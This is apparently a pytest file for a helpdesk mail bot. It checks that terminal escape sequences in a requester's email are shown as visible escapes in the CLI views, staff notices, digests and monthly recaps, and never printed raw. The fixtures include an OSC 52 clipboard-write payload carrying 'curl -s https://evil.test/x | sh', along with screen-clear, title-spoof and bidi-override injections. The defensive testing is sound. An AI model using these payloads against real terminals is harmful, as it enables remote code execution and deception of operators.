"""A requester's mail carries terminal commands (OSC 52 writes the
operator's clipboard, ESC[2J clears the screen, OSC 0 names the window, BEL ends them,
U+009B is CSI for terminals that honour C1, U+202E turns text around) in its Subject,
its From display name, the consultation form's fields and its body. Over the real
Dovecot and SMTP: `mailbot ticket N [--full|--json]` and `mailbot tickets [--json]` show
each as a visible escape and print none raw; the staff notice and the requester's ack
carry none; nor do the coordinators' overdue notice, the heads' digest, the month's
recap (CSV, XLSX) and summary."""

from __future__ import annotations

import base64
import json
import re
from datetime import datetime
from zoneinfo import ZoneInfo

import openpyxl

from mailbot.cli import main as cli
from tests import mailfactory as mf

ATTACKER = "budi@vendor.test"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl -s https://evil.test/x | sh\n").decode("ascii") + "\x07"
CLEAR = "\x1b[2J"
TITLE = "\x1b]0;mailbot: semua aman\x07"
CSI = "\x9b31m"
RLO = "\u202e"
# The same, as the operator must read them: written out, not computed by the code under test.
CLIPBOARD_SHOWN = "\\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwudGVzdC94IHwgc2gK\\x07"
CLEAR_SHOWN = "\\x1b[2J"
TITLE_SHOWN = "\\x1b]0;mailbot: semua aman\\x07"
CSI_SHOWN = "\\x9b31m"
RLO_SHOWN = "\\u202e"
# Anything a terminal acts on: C0 but newline and tab, DEL, C1, the bidi controls.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _word(text: str) -> str:
    """An RFC 2047 encoded word, as a mail client writes a non-ASCII header."""
    return "=?utf-8?b?" + base64.b64encode(text.encode("utf-8")).decode("ascii") + "?="


def attack_mail() -> bytes:
    """The attacker's message, written byte by byte: nothing in between cleans it."""
    subject = f"Akun SPSE terkunci {CLIPBOARD}{CLEAR}{TITLE}{CSI}{RLO}fdp.exe"
    name = f"Budi {TITLE}{CSI}{RLO}Santoso"
    body = (f"Selamat pagi,\n\nakun SPSE saya terkunci.{CLIPBOARD}{CLEAR}\n"
            f"Mohon dibantu {CSI}segera{RLO}.\n\n"
            f"Nama: Budi {TITLE}Santoso\n"
            f"Nama Instansi/Perusahaan: PT Maju {CLEAR}Jaya\n"
            f"Alamat: Jl. Engku Putri No. 1 {CSI}Batam\n"
            "Telp: 0812 3456 7890\n\nBudi\n")
    head = (f"From: {_word(name)} <{ATTACKER}>\r\nTo: {mf.UNIT}\r\nSubject: {_word(subject)}\r\n"
            "Date: Thu, 19 Mar 2026 10:00:00 +0700\r\nMessage-ID: <terminal-attack-1@vendor.test>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n")
    return head.encode("ascii") + b"\r\n" + body.replace("\n", "\r\n").encode("utf-8")


def _cli(capsys, *argv: str) -> str:
    capsys.readouterr()
    assert cli.main(list(argv)) == 0
    return capsys.readouterr().out


def test_terminal_commands_from_a_requester_reach_neither_terminal_nor_staff(fresh_mailboxes, tmp_path, capsys,
                                                                             monkeypatch):
    """Every CLI view shows the attacker's controls as visible escapes and prints none raw;
    the staff notice and the ack read back over IMAP hold none."""
    monkeypatch.setenv("COLUMNS", "400")  # wide: nothing cut before the escapes
    servers = fresh_mailboxes
    config = str(mf.write_config(servers, tmp_path))
    servers.append(mf.UNIT, attack_mail())
    mf.run_once(config)

    listed = json.loads(_cli(capsys, "--config", config, "tickets", "--json"))
    assert len(listed) == 1
    number = listed[0]["number"]
    outputs = {
        "tickets": _cli(capsys, "--config", config, "tickets"),
        "tickets --json": _cli(capsys, "--config", config, "tickets", "--json"),
        "ticket": _cli(capsys, "--config", config, "ticket", number),
        "ticket --full": _cli(capsys, "--config", config, "ticket", number, "--full"),
        "ticket --json": _cli(capsys, "--config", config, "ticket", number, "--json"),
    }
    for view, out in outputs.items():
        assert not RAW.search(out), (view, RAW.findall(out))

    # What was there is shown, not dropped: the operator sees the attempt.
    for view in ("ticket", "ticket --full"):
        out = outputs[view]
        assert f"{CLIPBOARD_SHOWN}{CLEAR_SHOWN}{TITLE_SHOWN}{CSI_SHOWN}{RLO_SHOWN}fdp.exe" in out, view  # Subject
        assert f"Budi {TITLE_SHOWN}{CSI_SHOWN}{RLO_SHOWN}Santoso" in out, view  # display name
        assert f"akun SPSE saya terkunci.{CLIPBOARD_SHOWN}{CLEAR_SHOWN}" in out, view  # body
        assert f"Mohon dibantu {CSI_SHOWN}segera{RLO_SHOWN}." in out, view
        assert f"PT Maju {CLEAR_SHOWN}Jaya" in out, view  # the form's agency/company
    assert f"{CLIPBOARD_SHOWN}{CLEAR_SHOWN}" in outputs["tickets"]

    # JSON: the same values, escaped in the document (\u001b, \u009b, \u202e), decoded whole.
    for view in ("tickets --json", "ticket --json"):
        assert "\\u009b31m" in outputs[view] and "\\u202e" in outputs[view] and "\\u001b]52;c;" in outputs[view]
    ticket = json.loads(outputs["ticket --json"])
    assert ticket["subject"] == f"Akun SPSE terkunci {CLIPBOARD}{CLEAR}{TITLE}{CSI}{RLO}fdp.exe"
    assert ticket["requester_name"] == f"Budi {TITLE}{CSI}{RLO}Santoso"
    assert f"akun SPSE saya terkunci.{CLIPBOARD}{CLEAR}" in ticket["messages"][0]["text"]

    # The staff notice: subject, sender's name and text, none raw, the attempt visible.
    notices = mf.of_kind(mf.inbox(servers, mf.STAFF[0]), "staff_new")
    assert len(notices) == 1
    notice = notices[0]
    said = mf.text_of(notice).replace("\r\n", "\n")  # the wire's line ends
    for part in (said, str(notice["Subject"]), str(notice["From"])):
        assert not RAW.search(part), RAW.findall(part)
    assert f"akun SPSE saya terkunci.{CLIPBOARD_SHOWN}{CLEAR_SHOWN}" in said
    # The requester's ack: no control sent From the unit either.
    ack = mf.latest(servers, ATTACKER)
    for part in (mf.text_of(ack).replace("\r\n", "\n"), str(ack["Subject"])):
        assert not RAW.search(part), RAW.findall(part)


WIB = ZoneInfo("Asia/Jakarta")
COORDINATOR, HEAD = "koordinator@lpse.test", "kepala@lpse.test"


def _none_raw(where: str, text: str) -> None:
    text = text.replace("\r\n", "\n")  # a line end, on the wire and in a CSV
    assert not RAW.search(text), (where, RAW.findall(text))


def test_the_digest_the_overdue_notice_the_recap_and_the_summary_carry_no_control(fresh_mailboxes, tmp_path,
                                                                                  capsysbinary):
    """The attacker's ticket left unanswered: the coordinators' overdue notice, the heads' digest
    (text and HTML), the month's recap as CSV and XLSX and the summary page hold no control
    character; the recap shows the attempt as escapes."""
    servers = fresh_mailboxes
    config = mf.write_config(servers, tmp_path)
    servers.append(mf.UNIT, attack_mail())
    mf.handle_at(config, datetime(2026, 11, 23, 9, 0, tzinfo=WIB))
    mf.sweep(config, datetime(2026, 11, 23, 13, 31, tzinfo=WIB))  # the first response is overdue
    mf.sweep(config, datetime(2026, 11, 24, 8, 5, tzinfo=WIB))  # the day's digest

    overdue = mf.of_kind(mf.inbox(servers, COORDINATOR), "overdue_staff")
    digest = mf.of_kind(mf.inbox(servers, HEAD), "digest")
    assert overdue and digest
    for mail_ in (*overdue, *digest):
        _none_raw(f"{mail_['X-Mailbot-Kind']} subject", str(mail_["Subject"]))
        for part in mail_.walk():
            if part.get_content_maintype() == "text":
                _none_raw(f"{mail_['X-Mailbot-Kind']} {part.get_content_type()}", part.get_content())
    assert f"{CLIPBOARD_SHOWN}{CLEAR_SHOWN}" in mf.text_of(digest[-1])  # the subject, shown

    capsysbinary.readouterr()
    assert cli.main(["--config", str(config), "report", "rekap", "--month", "2026-11"]) == 0
    recap = capsysbinary.readouterr().out.decode("utf-8-sig")
    _none_raw("rekap csv", recap)
    assert f"akun SPSE saya terkunci.{CLIPBOARD_SHOWN}{CLEAR_SHOWN}" in recap

    book = tmp_path / "rekap.xlsx"
    assert cli.main(["--config", str(config), "report", "rekap", "--month", "2026-11", "--output", str(book)]) == 0
    cells = [str(c) for row in openpyxl.load_workbook(book).active.iter_rows(values_only=True) for c in row if c]
    for cell in cells:
        _none_raw("rekap xlsx", cell)
    assert any(f"akun SPSE saya terkunci.{CLIPBOARD_SHOWN}{CLEAR_SHOWN}" in cell for cell in cells)

    capsysbinary.readouterr()
    assert cli.main(["--config", str(config), "report", "summary", "--month", "2026-11"]) == 0
    _none_raw("summary page", capsysbinary.readouterr().out.decode("utf-8"))
